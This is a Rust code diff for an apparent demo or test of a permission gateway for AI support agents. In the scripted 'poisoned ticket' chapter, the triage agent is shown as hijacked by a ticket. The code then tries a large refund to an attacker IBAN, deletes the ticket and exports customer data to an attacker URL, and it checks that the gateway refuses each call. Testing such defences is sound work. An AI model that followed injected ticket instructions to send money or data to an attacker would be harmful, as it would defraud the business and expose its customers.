@@ -16,6 +16,26 @@ use crate::out::Out;
 /// Longest time from a revocation to the first refusal.
 const REVOKED_WITHIN: Duration = Duration::from_secs(2);
 
+/// Why both agents ask: it stands in the log, committed, and is opened at the end.
+const WHY: &str = "the morning's tickets";
+/// What the first agent asks for: refunds of up to 50.00 only.
+const TRIAGE_ASKS: &[&str] = &[
+    "tickets/list_tickets",
+    "tickets/read_ticket",
+    "tickets/watch_ticket",
+    "tickets/reply_to_customer",
+    "tickets/issue_refund",
+    "--agent",
+    "support/triage",
+    "--where",
+    "tickets/issue_refund:amount_cents<=5000",
+    "--where",
+    "tickets/issue_refund:id=*",
+    "--where",
+    "tickets/issue_refund:iban=*",
+];
+const DIGEST_ASKS: &[&str] = &["tickets/list_tickets", "--agent", "support/digest"];
+
 /// The agent that the story is about: it may ask for refunds, never for exports.
 const TRIAGE: &str = r#"[agent]
 name = "triage"
@@ -105,7 +125,7 @@ pub(super) async fn play(home: Option<&Path>, out: &Out) -> Result<Vec<Chapter>,
     out.remark("starting a ticket desk, an authority and a gateway on loopback …");
     let mut world = World::start(home).await?;
     let mut chapters = vec![Chapter { title: "Set up", steps: set_up(&world).await? }];
-    let (agent, run, steps) = request(&world, "support/triage").await?;
+    let (agent, run, steps) = request(&world, TRIAGE_ASKS).await?;
     chapters.push(Chapter { title: "A scoped token, by one command", steps });
     chapters.push(Chapter { title: "Routine work", steps: routine(&agent).await? });
     chapters.push(Chapter { title: "The poisoned ticket", steps: hijacked(&world, &agent).await? });
@@ -114,6 +134,7 @@ pub(super) async fn play(home: Option<&Path>, out: &Out) -> Result<Vec<Chapter>,
     chapters.push(Chapter { title: "Taken back", steps: revoked(&world, &agent, &run).await? });
     let vkey = keep_key(&world)?;
     world.stop().await?;
+    chapters.push(Chapter { title: "What one entry of the log proves", steps: proved(&world, &vkey).await? });
     let log = True { dir: epoch(&world), vkey, earlier };
     chapters.push(Chapter { title: "The log, as an outsider sees it", steps: tamper::steps(&world, &log).await? });
     Ok(chapters)
@@ -140,36 +161,20 @@ async fn set_up(world: &World) -> Result<Vec<Step>, CliError> {
 }
 
 fn command(what: &str, printed: &Printed, code: i32) -> Step {
-    let says = printed.json.get("says").and_then(serde_json::Value::as_str).unwrap_or(printed.err.trim());
-    step(what, says, printed.code == code, printed.ms)
+    step(what, says_of(printed), printed.code == code, printed.ms)
 }
 
 /// A run of the agent, by the one command.
-async fn request(world: &World, name: &str) -> Result<(Agent, String, Vec<Step>), CliError> {
-    let tools: &[&str] = match name {
-        "support/triage" => &[
-            "tickets/list_tickets",
-            "tickets/read_ticket",
-            "tickets/watch_ticket",
-            "tickets/reply_to_customer",
-            "tickets/issue_refund",
-        ],
-        _ => &["tickets/list_tickets"],
-    };
+async fn request(world: &World, what: &[&str]) -> Result<(Agent, String, Vec<Step>), CliError> {
     let mut args = vec!["request"];
-    args.extend(tools);
-    args.extend(["--agent", name, "--for", "15m", "--why", "the morning's tickets"]);
+    args.extend(what);
+    args.extend(["--for", "15m", "--why", WHY]);
     let printed = world.remit(&args).await?;
     let text =
         |path: &str| printed.json.pointer(path).and_then(serde_json::Value::as_str).unwrap_or_default().to_owned();
     let (run, socket) = (text("/run/id"), text("/socket"));
-    let came = format!("run {run}, until it ends by itself in 15 minutes");
-    let steps = vec![step(
-        &format!("remit request {} … --for 15m --why \"…\"", tools.first().unwrap_or(&"")),
-        came,
-        printed.code == 0,
-        printed.ms,
-    )];
+    let typed = format!("remit request {} … --for 15m --why \"…\"", what.first().unwrap_or(&""));
+    let steps = vec![step(&typed, text("/says"), printed.code == 0, printed.ms)];
     let agent = Agent { socket: PathBuf::from(socket), endpoint: format!("{}/mcp/tickets", world.gateway) };
     Ok((agent, run, steps))
 }
@@ -197,16 +202,17 @@ async fn hijacked(world: &World, agent: &Agent) -> Result<Vec<Step>, CliError> {
     let began = Instant::now();
     let read = agent.call("read_ticket", json!({ "id": ticketdesk::POISONED_TICKET })).await?;
     let mut steps = vec![step("read_ticket 41", short(read.text()), read.is_done(), millis(began))];
-    let refund = json!({ "id": 41, "amount_cents": 480_000, "iban": ticketdesk::ATTACKER_IBAN });
+    let refund = |cents| json!({ "id": 41, "amount_cents": cents, "iban": ticketdesk::ATTACKER_IBAN });
     let tries = [
-        ("issue_refund", refund, "gate_pending"),
-        ("delete_ticket", json!({ "id": 41 }), "insufficient_scope"),
-        ("export_customers", json!({ "to": ticketdesk::ATTACKER_URL }), "unknown"),
+        ("issue_refund of 4,800.00", "issue_refund", refund(480_000), "arguments_outside_grant"),
+        ("issue_refund of 48.00", "issue_refund", refund(4_800), "gate_pending"),
+        ("delete_ticket", "delete_ticket", json!({ "id": 41 }), "insufficient_scope"),
+        ("export_customers", "export_customers", json!({ "to": ticketdesk::ATTACKER_URL }), "unknown"),
     ];
-    for (tool, arguments, code) in tries {
+    for (what, tool, arguments, code) in tries {
         let began = Instant::now();
         let answer = agent.call(tool, arguments).await?;
-        steps.push(step(tool, short(answer.text()), refused(&answer, code), millis(began)));
+        steps.push(step(what, short(answer.text()), refused(&answer, code), millis(began)));
     }
     let effects = world.desk.ledger().map_err(|error| failed(error.to_string()))?;
     let harmful = effects.iter().filter(|effect| effect.outcome == ticketdesk::Outcome::Changed).count();
@@ -221,7 +227,7 @@ fn refused(answer: &Answer, code: &str) -> bool {
 
 /// A second agent presents the first one's token: without its key, that is nothing.
 async fn stolen(world: &World, agent: &Agent) -> Result<Vec<Step>, CliError> {
-    let (other, _, mut steps) = request(world, "support/digest").await?;
+    let (other, _, mut steps) = request(world, DIGEST_ASKS).await?;
     let theirs = agent.headers().await?;
     let own = other.headers().await?;
     let pick = |headers: &[(String, String)], name: &str| {
@@ -242,28 +248,46 @@ async fn stolen(world: &World, agent: &Agent) -> Result<Vec<Step>, CliError> {
 
 /// The run is revoked while one of its streams is open.
 async fn revoked(world: &World, agent: &Agent, run: &str) -> Result<Vec<Step>, CliError> {
+    // A token that is good for minutes yet, with a proof that nobody has used.
+    let kept = agent.headers().await?;
     let mut stream = agent.watch("watch_ticket", json!({ "id": 38, "seconds": 20 })).await?;
-    let printed = world.remit(&["revoke", "run", run, "--why", "it did what a ticket told it"]).await?;
     let began = Instant::now();
+    let printed = world.remit(&["revoke", "run", run, "--why", "it did what a ticket told it"]).await?;
     let mut steps = vec![command("remit revoke run … --why \"…\"", &printed, 0)];
     let ended = tokio::time::timeout(REVOKED_WITHIN, async { while let Some(Ok(_)) = stream.frame().await {} }).await;
-    steps.push(step("its open stream", "ended", ended.is_ok(), millis(began)));
-    let began = Instant::now();
-    loop {
-        // A run that is revoked gets no new headers either; what it got before is refused.
-        let refused = match agent.headers().await {
-            Err(error) => Some(error.to_string()),
-            Ok(headers) => {
-                let answer = agent.call_with("list_tickets", json!({}), &headers).await?;
-                (answer.status == 401).then(|| format!("{} — {}", answer.status, short(answer.text())))
-            }
-        };
-        if refused.is_some() || began.elapsed() > REVOKED_WITHIN {
-            let ok = refused.is_some();
-            steps.push(step("its next call", refused.unwrap_or_else(|| "still allowed".into()), ok, millis(began)));
-            return Ok(steps);
-        }
-    }
+    let took = millis(began);
+    let says = if ended.is_ok() { format!("ended {took} ms after the command was typed") } else { "goes on".into() };
+    steps.push(step("its open stream", says, ended.is_ok() && began.elapsed() < REVOKED_WITHIN, took));
+    let answer = agent.call_with("list_tickets", json!({}), &kept).await?;
+    let text = format!("{} — {}", answer.status, short(answer.text()));
+    let ok = answer.refused() == Some("revoked") && began.elapsed() < REVOKED_WITHIN;
+    steps.push(step("its next call, with the token that it still holds", text, ok, millis(began)));
+    let renewed = world.remit(&["token", "tickets", "--run", run]).await?;
+    steps.push(step("remit token tickets --run …", says_of(&renewed), renewed.code != 0, renewed.ms));
+    Ok(steps)
+}
+
+/// The entry of the first ticket that was read, opened and checked as an outsider would.
+async fn proved(world: &World, vkey: &Path) -> Result<Vec<Step>, CliError> {
+    let home = world.home.display().to_string();
+    let entries = world.remit(&["log", "tail", "--dir", &home, "--lines", "100", "--kind", "call_intent"]).await?;
+    let read = entries.lines.iter().find(|entry| entry.get("what").is_some_and(|what| what == "tickets/read_ticket"));
+    let index = read.and_then(|entry| entry.get("index")).map(ToString::to_string).unwrap_or_default();
+    let evidence = world.home.join("evidence.json").display().to_string();
+    let made = world.remit(&["log", "prove", &index, "--disclose", "--out", &evidence]).await?;
+    let mut steps = vec![step("remit log prove … --disclose --out evidence.json", "", made.code == 0, made.ms)];
+    let vkey = vkey.display().to_string();
+    let checked = world.remit(&["log", "prove", "--check", &evidence, "--vkey", &vkey]).await?;
+    let sentence = checked.json.get("sentence").and_then(serde_json::Value::as_str).unwrap_or_default();
+    let ok = checked.code == 0 && sentence.contains(WHY) && sentence.contains(r#"{"id":38}"#);
+    steps.push(step("remit log prove --check evidence.json --vkey …", sentence, ok, checked.ms));
+    let again = world.remit(&["log", "replay"]).await?;
+    steps.push(step("remit log replay", says_of(&again), again.code == 0, again.ms));
+    Ok(steps)
+}
+
+fn says_of(printed: &Printed) -> &str {
+    printed.json.get("says").and_then(serde_json::Value::as_str).unwrap_or(printed.err.trim())
 }
 
 /// The gateway's log: its only epoch.
